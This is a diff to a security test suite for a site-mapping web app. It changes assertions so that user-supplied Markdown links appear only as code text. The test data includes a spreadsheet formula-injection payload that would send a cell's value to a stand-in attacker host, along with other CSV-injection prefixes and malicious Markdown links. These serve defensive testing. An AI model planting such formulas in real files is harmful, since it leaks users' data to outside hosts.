@@ -19,7 +19,7 @@ from geo.importer import import_sites
 from geo.query import SiteFilter
 from geo.readers import read_upload
 from geo.viewstate import from_params
-from tests.security.conftest import layer_captions, page, page_texts, shown
+from tests.security.conftest import layer_captions, outside_code, page, page_texts, shown
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 RISKY = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
@@ -173,7 +173,8 @@ def test_a_link_with_20000_values_gives_a_capped_summary(atlas):
 def test_markdown_in_a_link_is_shown_as_text():
     at = page(province="**bold** [lnk](https://evil.example)", mineral="![i](http://x.example/i)")
     raw = [w.value for w in at.warning]
-    assert raw and all("](" not in w for w in raw)
+    # The link's text sits in code spans: no Markdown link or bare address is interpreted.
+    assert raw and all("evil" not in outside_code(w) for w in raw)
     shown_text = " ".join(shown(w) for w in raw)
     assert "[lnk](https://evil.example)" in shown_text and "![i](http://x.example/i)" in shown_text
 
@@ -185,6 +186,6 @@ def test_a_site_name_with_markdown_is_a_plain_header(atlas):
     at.session_state["selected_site"] = "md-2"
     at.run()
     headers = [h.value for h in at.subheader if "evil" in h.value]
-    assert headers and all("](" not in h for h in headers)
+    assert headers and all("evil" not in outside_code(h) for h in headers)
     assert name in [shown(h) for h in headers]
     assert name in " ".join(page_texts(at)) or name in layer_captions(at) or headers
